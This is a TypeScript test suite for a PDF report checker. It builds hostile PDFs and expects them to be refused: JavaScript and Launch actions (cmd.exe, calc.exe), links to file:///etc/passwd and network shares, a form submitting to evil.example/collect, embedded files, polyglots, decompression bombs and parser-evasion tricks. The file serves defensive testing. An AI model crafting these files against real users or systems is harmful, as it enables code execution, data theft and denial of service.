/**
 * The report check on real files (docs/decisions/0021-reports-parsed-not-sniffed.md): a plain report passes;
 * JavaScript, Launch actions, attached files, decompression bombs, polyglots, encrypted, tiny, cut-off and
 * malformed files are refused, each with its own text. No database: the route's answers are in
 * office-reports.test.ts.
 */
import { randomBytes } from 'node:crypto';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { checkReportPdf } from '#server/orders/pdf-check';
import { BrokenStreamError, DecodeLimitError } from '#server/orders/pdf-decode';
import { MAX_CHECK_MS, MAX_OBJECTS, TooComplexError } from '#server/orders/pdf-objects';
import { tinyPdf } from './office-helpers';
import {
  type Bytes,
  CATALOG_AND_PAGE,
  attachedFile,
  fileAttachmentAnnotation,
  flateBomb,
  handMadePdf,
  javascriptInNames,
  javascriptOnOpen,
  launchOnPageOpen,
  lzwLiterals,
  reportPdf,
  refusalOf,
  reportPdfOfSize,
  zipOf,
} from './report-pdf-files';

function concat(...parts: Array<Uint8Array | string>): Bytes {
  return new Uint8Array(
    Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))),
  );
}

describe('plain reports pass', () => {
  it('with and without object streams, with an image, hand-made ones, and one of an exact size', async () => {
    expect(await refusalOf(await reportPdf())).toBe('ok');
    expect(await refusalOf(await reportPdf({ objectStreams: false }))).toBe('ok');
    expect(await refusalOf(await reportPdf({ pages: 30, imageBytes: 600_000 }))).toBe('ok');
    expect(await refusalOf(tinyPdf())).toBe('ok');
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE))).toBe('ok');
    const exact = await reportPdfOfSize(50_000);
    expect(exact.length).toBe(50_000);
    expect(await refusalOf(exact)).toBe('ok');
  });

  it('a web link is not active content', async () => {
    const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com) >> >>';
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, link]))).toBe('ok');
  });

  it('nor a bookmark that opens a web page when clicked, nor a font called /JavaScript', async () => {
    const [catalog, pages, page] = CATALOG_AND_PAGE;
    const bookmark =
      '/Outlines << /Type /Outlines /First << /Title (Site) /A << /S /URI /URI (https://example.com) >> >> >>';
    expect(await refusalOf(handMadePdf([catalog!.replace('>>', `${bookmark} >>`), pages!, page!]))).toBe('ok');
    // The word trailer in a page's text is no trailer.
    const text = 'BT /F1 12 Tf (The trailer park) Tj ET';
    const content = `<< /Length ${text.length} >>\nstream\n${text}\nendstream`;
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, content]))).toBe('ok');
    // Only /S, /Type and /Subtype say what a dictionary is: a font's name is just a name.
    const font = '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /JavaScript >> >> >>';
    expect(await refusalOf(handMadePdf([catalog!, pages!, page!.replace(/>>\s*$/, `${font} >>`)]))).toBe('ok');
  });
});

describe('active content is refused', () => {
  it('JavaScript: in the Names tree (packed in an object stream, or not) and as the open action', async () => {
    expect(await refusalOf(await javascriptInNames())).toBe('javascript');
    expect(await refusalOf(await javascriptInNames(false))).toBe('javascript');
    expect(await refusalOf(await javascriptOnOpen())).toBe('javascript');
  });

  it('JavaScript behind escaped names, an indirect /S, a comment in the header, or in no cross-reference table', async () => {
    const escaped = '<< /S /Java#53cript /#4a#53 (app.alert(1)) >>';
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, escaped]))).toBe('javascript');
    const indirect = ['<< /S 5 0 R /Next 6 0 R >>', '/JavaScript'];
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, ...indirect]))).toBe('javascript');
    const orphan = '9 0 %hidden\n obj\n<< /Type /Action /S /JavaScript >>\nendobj\n';
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE, { extra: orphan }))).toBe('javascript');
    // A comment right after each number, its line ended by a carriage return alone (as old Macs wrote).
    const comments = '9%a\r0%b\robj\r<< /S /JavaScript >>\rendobj\r';
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE, { extra: comments }))).toBe('javascript');
    const midLine = '(%) 9 0 obj << /AA << /O << /JS (x) >> >> >> endobj\n';
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE, { extra: midLine }))).toBe('javascript');
    const xfa = '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>';
    expect(
      await refusalOf(handMadePdf([xfa, ...CATALOG_AND_PAGE.slice(1), '<< /Length 0 >>\nstream\n\nendstream'])),
    ).toBe('javascript');
  });

  it('JavaScript as the open action behind a header a reader takes: a number padded with zeros, obj at once', async () => {
    const bodies = [
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
      ...CATALOG_AND_PAGE.slice(1),
      '<< /S /JavaScript /JS (app.alert(1)) >>',
    ];
    const rewritten = (header: string) =>
      Buffer.from(Buffer.from(handMadePdf(bodies)).toString('latin1').replace('\n4 0 obj', header), 'latin1');
    for (const header of ['\n00000000004 0 obj', '\n4 00000000000 obj', '\n4 0obj']) {
      expect(await refusalOf(rewritten(header)), header).toBe('javascript');
    }
  });

  it('JavaScript in the first version of an object a later one replaces (as an incremental update does)', async () => {
    const later = '4 0 obj\n<< /Type /Metadata >>\nendobj\n';
    const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, script], { extra: later }))).toBe('javascript');
  });

  it("an action in a dictionary written out inside an array (a page's /Annots)", async () => {
    const [catalog, pages, page] = CATALOG_AND_PAGE;
    const annots = '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>]';
    expect(await refusalOf(handMadePdf([catalog!, pages!, page!.replace(/>>\s*$/, `${annots} >>`)]))).toBe('launch');
  });

  it('JavaScript in a hand-packed object stream, and in one packed twice', async () => {
    const inside = '<< /S /JavaScript /JS (app.alert(1)) >>';
    const header = '4 0 ';
    const packed = deflateSync(deflateSync(Buffer.from(header + inside, 'latin1')));
    const objectStream = `<< /Type /ObjStm /N 1 /First ${header.length} /Filter [/FlateDecode /Fl] /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream`;
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, objectStream]))).toBe('javascript');
  });

  it('Launch actions', async () => {
    expect(await refusalOf(await launchOnPageOpen())).toBe('launch');
    const open = '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>';
    expect(await refusalOf(handMadePdf([open, ...CATALOG_AND_PAGE.slice(1)]))).toBe('launch');
  });

  it('attached and embedded files', async () => {
    expect(await refusalOf(await attachedFile())).toBe('attachment');
    expect(await refusalOf(await fileAttachmentAnnotation())).toBe('attachment');
    const goToE = '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >> >>';
    expect(await refusalOf(handMadePdf([goToE, ...CATALOG_AND_PAGE.slice(1)]))).toBe('attachment');
    // An embedded file's stream on its own, no file specification pointing to it: its dictionary says what it is.
    const file = '<< /Type /EmbeddedFile /Length 10 >>\nstream\necho pwned\nendstream';
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, file]))).toBe('attachment');
  });
});

describe('links and actions that reach outside the document are refused', () => {
  const linkTo = (uri: string) =>
    handMadePdf([
      ...CATALOG_AND_PAGE,
      `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ${uri} >> >>`,
    ]);

  it('a link to javascript:, file:, data:, smb: or a network share; web, e-mail and phone links pass', async () => {
    for (const uri of [
      '(javascript:alert\\(1\\))',
      '(file:///etc/passwd)',
      '(data:text/html,hi)',
      '(smb://host/share)',
    ]) {
      expect([uri, await refusalOf(linkTo(uri))]).toEqual([uri, 'unsafeLink']);
    }
    expect(await refusalOf(linkTo('(\\\\\\\\fileserver\\\\share\\\\x.exe)'))).toBe('unsafeLink');
    // Hex-encoded "javascript:x" is the same link.
    expect(await refusalOf(linkTo(`<${Buffer.from('javascript:x').toString('hex')}>`))).toBe('unsafeLink');
    // A /URI that is no string (null) opens nothing.
    expect(await refusalOf(linkTo('null'))).toBe('ok');
    for (const uri of [
      '(https://example.com/a)',
      '(HTTP://example.com)',
      '(mailto:office@example.com)',
      '(tel:+442079460000)',
    ]) {
      expect([uri, await refusalOf(linkTo(uri))]).toEqual([uri, 'ok']);
    }
  });

  it('a link opened by itself when the document or a page opens; a jump inside the document on open passes', async () => {
    const [catalog, ...rest] = CATALOG_AND_PAGE;
    const withCatalog = (extra: string) => handMadePdf([catalog!.replace('>>', `${extra} >>`), ...rest]);
    expect(await refusalOf(withCatalog('/OpenAction << /S /URI /URI (https://example.com) >>'))).toBe('autoAction');
    expect(
      await refusalOf(
        withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.example) >> >>'),
      ),
    ).toBe('autoAction');
    expect(await refusalOf(withCatalog('/OpenAction [3 0 R /Fit]'))).toBe('ok');
    expect(await refusalOf(withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'))).toBe('ok');
    // An action numbered 12: every digit of the number counts.
    const twelve = '12 0 obj\n<< /S /URI /URI (https://example.com) >>\nendobj\n';
    const opens12 = handMadePdf([catalog!.replace('>>', '/OpenAction 12 0 R >>'), ...rest], { extra: twelve });
    expect(await refusalOf(opens12)).toBe('autoAction');
    // The action packed first in an object stream, found by its number there.
    const action = '9 0 << /S /URI /URI (https://example.com) >>';
    const packed = `<< /Type /ObjStm /N 1 /First 4 /Length ${action.length} >>\nstream\n${action}\nendstream`;
    expect(await refusalOf(handMadePdf([catalog!.replace('>>', '/OpenAction 9 0 R >>'), ...rest, packed]))).toBe(
      'autoAction',
    );
    const [, pages, page] = CATALOG_AND_PAGE;
    const pageOpens = page!.replace(/>>\s*$/, '/AA << /O << /S /URI /URI (https://example.com) >> >> >>');
    expect(await refusalOf(handMadePdf([catalog!, pages!, pageOpens]))).toBe('autoAction');
  });

  it('a form that submits to a website, an import of data from a file, a link to another file', async () => {
    const button = (action: string) =>
      handMadePdf([...CATALOG_AND_PAGE, `<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A ${action} >>`]);
    expect(await refusalOf(button('<< /S /SubmitForm /F (https://evil.example/collect) >>'))).toBe('form');
    expect(await refusalOf(button('<< /S /ImportData /F (data.fdf) >>'))).toBe('import');
    expect(await refusalOf(button('<< /S /GoToR /F (\\\\\\\\server\\\\share\\\\other.pdf) /D [0 /Fit] >>'))).toBe(
      'unsafeLink',
    );
  });
});

describe('decompression bombs are refused, in bounded time', () => {
  it('200 MB of zeros in a page, Flate-packed to ~200 kB', async () => {
    const bomb = await flateBomb(200);
    expect(bomb.length).toBeLessThan(400_000);
    const started = process.cpuUsage();
    expect(await refusalOf(bomb)).toBe('bomb');
    const used = process.cpuUsage(started);
    expect((used.user + used.system) / 1000).toBeLessThan(2000);
  });

  it('a small stream that unpacks past the ratio, and one packed twice (a few kB for 200 MB)', async () => {
    expect(await refusalOf(await flateBomb(3))).toBe('bomb');
    const twice = await flateBomb(200, 2);
    expect(twice.length).toBeLessThan(50_000);
    expect(await refusalOf(twice)).toBe('bomb');
  });

  it('a bomb in an object stream, before anything in it is parsed', async () => {
    const zeros = deflateSync(Buffer.alloc(100 * 1024 * 1024), { level: 9 });
    const objectStream = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${zeros.length} >>\nstream\n${zeros.toString('latin1')}\nendstream`;
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, objectStream]))).toBe('bomb');
  });

  const flate = (packed: Buffer) =>
    `<< /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream`;

  it('past its first MB, a stream may unpack to 200 times its size: one stored as it is passes', async () => {
    // 1.1 MB in Flate's stored blocks (level 0): packed as big as it is.
    expect(
      await refusalOf(handMadePdf([...CATALOG_AND_PAGE, flate(deflateSync(Buffer.alloc(1_100_000), { level: 0 }))])),
    ).toBe('ok');
  });

  it('streams each within their own limit are a bomb together past 128 MB; bytes stored unpacked do not count', async () => {
    // A million zeros each, Flate-packed to a kilobyte: within the first MB any stream may unpack to.
    const million = flate(deflateSync(Buffer.alloc(1_000_000), { level: 9 }));
    const raw = `<< /Length 300000 >>\nstream\n${'\0'.repeat(300_000)}\nendstream`;
    const streams = (count: number, ...before: string[]) =>
      handMadePdf([...CATALOG_AND_PAGE, ...before, ...Array.from({ length: count }, () => million)]);
    // 134 MB of the 134,217,728 bytes (128 MB) a report may unpack to, after 300 kB read as they are.
    expect(await refusalOf(streams(134, raw))).toBe('ok');
    expect(await refusalOf(streams(135))).toBe('bomb');
  });
});

describe('every filter a reader undoes is undone, each within its limit', () => {
  const JS_INSIDE = '<< /S /JavaScript /JS (app.alert(1)) >>';
  /** An object stream holding the JavaScript action past its 300th byte, with its packed bytes and filter. */
  const objectStream = (pack: (plain: Buffer) => Uint8Array, filter: string) => {
    const header = '4 0'.padEnd(300, ' ');
    const packed = Buffer.from(pack(Buffer.from(header + JS_INSIDE, 'latin1')));
    return `<< /Type /ObjStm /N 1 /First ${header.length} ${filter} /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream`;
  };
  const withStream = (stream: string) => handMadePdf([...CATALOG_AND_PAGE, stream]);
  /** An unfiltered object stream: its dictionary's entries, and its content. */
  const packed = (dict: string, content: string) =>
    withStream(`<< /Type /ObjStm ${dict} /Length ${content.length} >>\nstream\n${content}\nendstream`);

  it('JavaScript packed with LZW (early change or not), ASCIIHex or an image codec', async () => {
    const lzw = (earlyChange: 0 | 1) => (plain: Buffer) => lzwLiterals(plain, earlyChange);
    const early = objectStream(lzw(1), '/Filter /LZWDecode');
    expect(await refusalOf(withStream(early))).toBe('javascript');
    const late = objectStream(lzw(0), '/Filter /LZW /DecodeParms << /EarlyChange 0 >>');
    expect(await refusalOf(withStream(late))).toBe('javascript');
    const hex = objectStream((plain) => Buffer.from(`${plain.toString('hex')}>`), '/Filter /AHx');
    expect(await refusalOf(withStream(hex))).toBe('javascript');
    // An image codec ends the chain: its pixels are not read, and an object stream behind one is no PDF.
    expect(await refusalOf(withStream(objectStream((plain) => plain, '/Filter /DCTDecode')))).toBe('notPdf');
    const image =
      '<< /Type /XObject /Subtype /Image /Filter /DCTDecode /Length 4 >>\nstream\n\xff\xd8\xff\xd9\nendstream';
    expect(await refusalOf(withStream(image))).toBe('ok');
  });

  it('a /Filter that refers to no object is none (a reference to nothing is null): the stream is still read', async () => {
    expect(await refusalOf(withStream(objectStream((plain) => plain, '/Filter 99 0 R')))).toBe('javascript');
  });

  it('an object stream whose header does not add up is no PDF, whatever it holds', async () => {
    const body = `4 0 5 ${JS_INSIDE.length + 1} `;
    const content = `${body}${JS_INSIDE} << >>`;
    expect(await refusalOf(packed(`/N 2 /First ${body.length}`, content))).toBe('javascript');
    const broken = [
      packed(`/First ${body.length}`, content),
      packed('/N 2 /First (6)', content),
      packed(`/N 2 /First ${content.length + 1}`, content),
      packed('/N 2 /First 1.5', content),
      packed('/N 3 /First 12', content),
      packed(`/N 2 /First ${body.length}`, `4 0 5 999 ${JS_INSIDE} << >>`),
    ];
    for (const [index, file] of broken.entries()) expect(await refusalOf(file), String(index)).toBe('notPdf');
  });

  it('an empty object stream passes with /First from its start to its end, not outside it nor between two bytes', async () => {
    // Flate-packed, as writers pack them: three bytes, no object.
    const empty = (first: string) =>
      packed(`/N 0 /First ${first} /Filter /FlateDecode`, deflateSync('abc').toString('latin1'));
    for (const first of ['0', '3']) expect([first, await refusalOf(empty(first))]).toEqual([first, 'ok']);
    for (const first of ['-1', '4', '1.5']) expect([first, await refusalOf(empty(first))]).toEqual([first, 'notPdf']);
  });

  it('RunLength behind Flate may unpack to exactly the limit, not a run more', async () => {
    // Each two-byte run is 128 zeros: 8192 of them are the 1 MB a small stream may unpack to.
    const runs = (count: number) => {
      const packed = deflateSync(Buffer.alloc(2 * count, Buffer.from([0x81, 0x00])));
      return withStream(
        `<< /Filter [/FlateDecode /RunLengthDecode] /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream`,
      );
    };
    expect(await refusalOf(runs(8192))).toBe('ok');
    expect(await refusalOf(runs(8193))).toBe('bomb');
  });

  it('Flate data without its zlib header, or too short to hold one, is no PDF', async () => {
    const raw = deflateRawSync(Buffer.from('BT /F1 12 Tf (Hello) Tj ET'));
    const stream = (data: Buffer) =>
      withStream(`<< /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`);
    const headed = (cmf: number, flg: number) => Buffer.concat([Buffer.from([cmf, flg]), raw]);
    const broken = [
      headed(0x78, 0x00), // the check bits do not add up
      headed(0x77, 0x09), // a method other than deflate (8)
      headed(0x78, 0xbb), // a preset dictionary, which a reader does not have
      Buffer.from([0x78]),
      Buffer.from([0xf8]), // one byte, which would pass as a header with a zero after it
    ];
    for (const [index, data] of broken.entries()) expect(await refusalOf(stream(data)), String(index)).toBe('notPdf');
    expect(await refusalOf(stream(headed(0x78, 0x9c)))).toBe('ok');
    // A header and nothing after it: an empty stream.
    expect(await refusalOf(stream(Buffer.from([0x78, 0x9c])))).toBe('ok');
  });
});

describe('what is not a PDF, or not only one, is refused', () => {
  it('a 10-byte file, an empty one, a cut-off one, one without pages, and broken Flate data', async () => {
    expect(await refusalOf(Buffer.from('%PDF-%%EOF', 'latin1'))).toBe('notPdf');
    expect(await refusalOf(new Uint8Array())).toBe('notPdf');
    const report = await reportPdf();
    expect(await refusalOf(report.slice(0, report.length / 2))).toBe('notPdf');
    expect(await refusalOf(concat(report.slice(0, report.length / 2), '\n%%EOF\n'))).toBe('notPdf');
    expect(await refusalOf(handMadePdf(['<< /Type /Catalog >>']))).toBe('notPdf');
    const broken = '<< /Filter /FlateDecode /Length 6 >>\nstream\nx\x9cgarb\nendstream';
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, broken]))).toBe('notPdf');
  });

  it('bytes before %PDF-: an HTML page or a picture that also holds a PDF', async () => {
    const report = await reportPdf();
    expect(await refusalOf(concat('<html><body>', report))).toBe('notPdf');
    expect(await refusalOf(concat(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), report))).toBe('notPdf');
  });

  it('a PDF that is also a ZIP archive, an HTML page or a tar archive', async () => {
    const report = await reportPdf();
    expect(await refusalOf(concat(report, zipOf('run.bat', 'echo pwned'), '\n%%EOF\n'))).toBe('polyglot');
    const html = concat(report.slice(0, 9), '%<html><script>alert(document.cookie)</script>\n', report.slice(9));
    expect(await refusalOf(html)).toBe('polyglot');
    const tar = concat('%PDF-1.7\n%', ' '.repeat(246), '\nustar\n', handMadePdf(CATALOG_AND_PAGE).slice(9));
    expect(await refusalOf(tar)).toBe('polyglot');
  });

  it('a ZIP whose directory is where its end record points, not right before it; a stray end record passes', async () => {
    const report = await reportPdf();
    const zip = Buffer.from(zipOf('run.bat', 'echo pwned'));
    const directoryAt = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    const endAt = zip.length - 22;
    /** The ZIP after the report, its end record saying `size` and `offset` of its central directory. */
    const appended = (size: number, offset: number) => {
      const copy = Buffer.from(zip);
      copy.writeUInt32LE(size, endAt + 12);
      copy.writeUInt32LE(offset, endAt + 16);
      return concat(report, copy, '\n%%EOF\n');
    };
    expect(await refusalOf(appended(0, report.length + directoryAt))).toBe('polyglot');
    // An end record whose directory is neither before it nor where it points: chance bytes, no archive.
    const stray = concat(report, zip.subarray(endAt), '\n%%EOF\n');
    expect(await refusalOf(stray)).toBe('ok');
    // Nor one pointing past itself: a directory comes before its end record.
    const after = Buffer.from(zip.subarray(endAt));
    after.writeUInt32LE(0, 12);
    after.writeUInt32LE(report.length + after.length, 16);
    expect(await refusalOf(concat(report, after, zip.subarray(directoryAt, endAt), '\n%%EOF\n'))).toBe('ok');
  });

  it('the /Root a trailer names must be a catalog with a page tree; an earlier trailer without one hides nothing', async () => {
    expect(await refusalOf(handMadePdf(['<< /Pages 2 0 R >>', ...CATALOG_AND_PAGE.slice(1)]))).toBe('notPdf');
    // An incremental update: the first revision's catalog had no page tree, the last one's has.
    const earlier = '4 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 4 0 R >>\n';
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE, { extra: earlier }))).toBe('ok');
  });

  it('only a trailer or a cross-reference stream says where the catalog is, and whether the file is encrypted', async () => {
    const stream = (dict: string) => `<< ${dict} /Length 0 >>\nstream\n\nendstream`;
    const [catalog, pages, page] = CATALOG_AND_PAGE;
    // The trailer's /Root (object 1) is no catalog; object 4 is, named by a stream's /Root.
    const rootIn = (type: string) => handMadePdf(['<< >>', pages!, page!, catalog!, stream(`${type} /Root 4 0 R`)]);
    expect(await refusalOf(rootIn('/Type /XRef'))).toBe('ok');
    expect(await refusalOf(rootIn('/Type /XObject /Subtype /Form'))).toBe('notPdf');
    const encryptIn = (type: string) => handMadePdf([...CATALOG_AND_PAGE, stream(`${type} /Encrypt << /V 2 >>`)]);
    expect(await refusalOf(encryptIn('/Type /XRef'))).toBe('encrypted');
    expect(await refusalOf(encryptIn('/Type /XObject /Subtype /Form'))).toBe('ok');
  });

  it('an encrypted file: its objects cannot be looked into', async () => {
    const encrypt = '/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>';
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE, { trailer: encrypt }))).toBe('encrypted');
  });
});

describe('hostile structure costs bounded work and never throws', () => {
  it('too many objects, or nesting deeper than the stack', async () => {
    const many = Array.from({ length: MAX_OBJECTS + 1 }, (_, index) => `${index + 10} 0 obj 1 endobj\n`).join('');
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE, { extra: many }))).toBe('tooComplex');
    // As many packed in one object stream, each pair naming the same `1`: Flate-packed, the file is small.
    const header = '1 0 '.repeat(MAX_OBJECTS);
    const zipped = deflateSync(Buffer.from(`${header}1`, 'latin1'));
    const packed = `<< /Type /ObjStm /N ${MAX_OBJECTS} /First ${header.length} /Filter /FlateDecode /Length ${zipped.length} >>\nstream\n${zipped.toString('latin1')}\nendstream`;
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, packed]))).toBe('tooComplex');
    const deep = `9 0 obj ${'['.repeat(200_000)} endobj\n`;
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE, { extra: deep }))).toBe('tooComplex');
  });

  it('an object stream with fewer pairs than its /N is no PDF, refused before the pairs it has are parsed', async () => {
    // One pair fewer than /N, and as many as the object limit: parsed one by one before the header is checked,
    // they would pass the limit and the file would be called too complex, not unreadable.
    const header = '1 0 '.repeat(MAX_OBJECTS);
    const zipped = deflateSync(Buffer.from(`${header}1`, 'latin1'));
    const packed = `<< /Type /ObjStm /N ${MAX_OBJECTS + 1} /First ${header.length} /Filter /FlateDecode /Length ${zipped.length} >>\nstream\n${zipped.toString('latin1')}\nendstream`;
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, packed]))).toBe('notPdf');
  });

  // MAX_CHECK_MS of CPU time: on a busy machine the clock on the wall runs further, so the test allows for it.
  it('work that grows with the square of the size is cut off at the time limit', { timeout: 60_000 }, async () => {
    const started = process.cpuUsage();
    const unclosed = handMadePdf(CATALOG_AND_PAGE, { extra: '1 0 obj ('.repeat(200_000) });
    expect(await refusalOf(unclosed)).toBe('tooComplex');
    const used = process.cpuUsage(started);
    expect((used.user + used.system) / 1000).toBeLessThan(MAX_CHECK_MS * 2);
  });

  it('a chain of actions that loops back on itself is refused, not followed for ever', async () => {
    // Its walk runs out of stack: a file that cannot be read, as pdf-lib's failures are.
    const [catalog, ...rest] = CATALOG_AND_PAGE;
    const loop = '<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>';
    const file = handMadePdf([catalog!.replace('>>', '/OpenAction 4 0 R >>'), ...rest, loop]);
    expect(await refusalOf(file)).toBe('notPdf');
  });

  it("the check's own errors say which they are, should one reach a log", () => {
    const errors = [new TooComplexError('a'), new DecodeLimitError('b'), new BrokenStreamError('c')];
    expect(errors.map(String)).toEqual(['TooComplexError: a', 'DecodeLimitError: b', 'BrokenStreamError: c']);
  });

  it('random bytes after the header never make it throw', async () => {
    for (let round = 0; round < 200; round++) {
      const noise = randomBytes(2000);
      const bytes = concat('%PDF-1.7\n', noise, '1 0 obj << /Type /Catalog >> endobj trailer << /Root 1 0 R >>\n%%EOF');
      await expect(checkReportPdf(bytes)).resolves.toHaveProperty('ok');
    }
  });
});
